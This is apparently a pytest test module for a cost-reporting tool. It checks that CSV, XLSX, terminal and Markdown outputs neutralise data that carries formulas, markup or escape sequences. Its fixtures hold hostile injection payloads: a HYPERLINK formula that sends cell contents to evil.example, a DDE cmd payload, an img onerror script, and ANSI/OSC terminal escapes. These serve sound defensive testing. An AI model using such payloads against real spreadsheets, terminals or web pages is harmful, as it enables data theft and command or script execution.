"""No output carries a live formula, markup or an escape sequence from data."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import openpyxl
import pytest

from costing.forecast.diff import ForecastDiff, ResourceDelta, diff_markdown
from costing.forecast.pricing import Forecast, ForecastLine, Unpriced
from costing.forecast.report import to_csv
from estate.foundation.safe_text import FORMULA_STARTS, cell_text
from tests.conftest import run_cli
from tests.cost_helpers import FOCUS_HEADER, focus_row, load
from tests.reconcile_helpers import SMALL_CASE, Row, write_case, write_store

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
           "\tTAB=1", "\r=CR"]


@pytest.fixture
def hostile_reconciliation(tmp_path):
    """A case whose line label is a formula, and unallocated spend whose service, group, subscription and tag are."""
    case = write_case(tmp_path / "case.yaml", SMALL_CASE.replace("label: Azure run", f"label: '{HOSTILE[2]}'"))
    rows = [Row("2024-05", "150", line="azure-run"), Row("2024-06", "90", line="azure-run"),
            Row("2024-06", "5", service=HOSTILE[0], resource_group="at-rg", subscription=HOSTILE[3],
                line=HOSTILE[1]),
            Row("2024-07", "7", service=HOSTILE[4], line=HOSTILE[5])]
    store = write_store(tmp_path / "store", rows)
    return tmp_path, case, store


def _reconcile(hostile_reconciliation, output_format):
    folder, case, store = hostile_reconciliation
    out = folder / f"report.{output_format}"
    result = run_cli("cost", "reconcile", "--case", case, "--store", store, "--format", output_format, "--out", out)
    assert result.exit_code == 0, result.output
    return out


def test_no_cell_of_the_xlsx_report_is_a_formula_and_numbers_stay_numbers(hostile_reconciliation):
    book = openpyxl.load_workbook(_reconcile(hostile_reconciliation, "xlsx"))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert any(text.startswith("'=HYPERLINK(") for text in texts)  # shown, as text
    assert any(text.startswith("'+1+1") for text in texts)  # the case's line label
    assert not [text for text in texts if text.startswith(FORMULA_STARTS) and cell_text(text) != text]
    numbers = [c.value for c in cells if c.data_type == "n"]
    assert any(value < 0 for value in numbers)  # a negative variance is a number, not text


def test_no_field_of_the_csv_report_starts_a_formula(hostile_reconciliation):
    text = _reconcile(hostile_reconciliation, "csv").read_text()
    rows = list(csv.reader(io.StringIO(text)))
    fields = [field for row in rows for field in row]
    assert "'+1+1" in fields  # the label, neutralised
    assert not [f for f in fields if f.startswith(FORMULA_STARTS) and not _is_number(f)]
    assert any(f.startswith("-") and _is_number(f) for f in fields)  # negative amounts are still plain numbers


def _is_number(text: str) -> bool:
    try:
        Decimal(text.rstrip("%"))
    except ArithmeticError:
        return False
    return True


def test_forecast_csv_neutralises_names_from_plans():
    line = ForecastLine("urn:pulumi:s::p::t::=cmd|' /C calc'!A0", "azure-native:compute:VirtualMachine", "compute",
                        Decimal(1), "months", Decimal("-5"), Decimal("-5"), "@source", "=vm", "s", "w", "+line",
                        "-svc", "uksouth")
    unpriced = Unpriced("urn:x", "t", "c", "=reason", "@res", "s", "w", "l", "svc")
    rows = list(csv.reader(io.StringIO(to_csv(Forecast("GBP", ["plan"], [line], [unpriced])))))
    fields = [field for row in rows[1:] for field in row]
    assert "'=vm" in fields and "'@source" in fields and "'+line" in fields and "'=reason" in fields
    assert "-5" in fields or "-5.00" in fields
    assert not [f for f in fields if f.startswith(FORMULA_STARTS) and not _is_number(f)]


def test_markup_and_escape_sequences_in_tag_values_reach_the_terminal_as_text(tmp_path):
    service = "[link=http://evil.example]Click me[/link]\x1b]8;;http://evil.example\x1b\\\x1b[2J"
    export = tmp_path / "costs.csv"
    export.write_text(FOCUS_HEADER + "\n" + focus_row("1", "2025-05-01", service=service))
    assert load(export, tmp_path / "store").exit_code == 0

    result = run_cli("cost", "summary", "--store", tmp_path / "store", "--by", "service")

    assert result.exit_code == 0, result.output
    assert "[link=http://evil.example]Click me[/link]" in result.stdout
    assert "\x1b" not in result.stdout and "\x9b" not in result.stdout


def test_the_text_reconciliation_shows_markup_from_data_as_text(hostile_reconciliation, tmp_path):
    folder, _case, store = hostile_reconciliation
    case = write_case(folder / "case2.yaml", SMALL_CASE.replace("label: Azure run", "label: '[red]Azure[/red] run'"))
    result = run_cli("cost", "reconcile", "--case", case, "--store", store, "--format", "text")
    assert result.exit_code == 0, result.output
    assert "[red]Azure[/red] run" in result.stdout and "\x1b" not in result.stdout


def test_names_from_plans_cannot_break_out_of_markdown_code_spans():
    name = "vm` | **pwned** | <img src=x onerror=alert(1)> `"
    delta = ResourceDelta(f"urn:pulumi:s::p::azure-native:compute:VirtualMachine::{name}",
                          "azure-native:compute:VirtualMachine|x", Decimal(1), Decimal(3))
    empty = Forecast("GBP", ["old"])
    text = diff_markdown(ForecastDiff("GBP", empty, Forecast("GBP", ["new"]), [delta]))
    row = next(line for line in text.splitlines() if "pwned" in line)
    # Six cells: no pipe from the data splits the row, and the name is one code span (a longer fence).
    assert len([cell for cell in _split_cells(row)]) == 6
    assert "| `` vm` \\| **pwned** \\| <img src=x onerror=alert(1)> ` `` |" in row and row.count("``") == 2


def _split_cells(row: str) -> list[str]:
    cells, current, escaped = [], "", False
    for char in row.strip().strip("|"):
        if char == "|" and not escaped:
            cells.append(current)
            current = ""
        else:
            current += char
        escaped = char == "\\"
    return [*cells, current]


def test_error_messages_carry_no_escape_sequences_from_data(tmp_path):
    export = tmp_path / "costs\x1b[2J.csv"
    export.write_text(FOCUS_HEADER + "\n")
    result = run_cli("cost", "load", export, "--store", tmp_path / "store")
    assert result.exit_code == 2 and "\x1b" not in result.stderr and "costs[2J.csv" in result.stderr


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+44 20 7946 0000", "'+44 20 7946 0000"), ("-x", "'-x"), ("@A1", "'@A1"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-12.50", "-12.50"), ("+3", "+3"), ("-", "-"), ("1e-3", "1e-3"),
    ("plain", "plain"), (Decimal("-5"), Decimal("-5")), (-5, -5), (None, None),
])
def test_cell_text_quotes_formulas_and_leaves_numbers(value, expected):
    assert cell_text(value) == expected
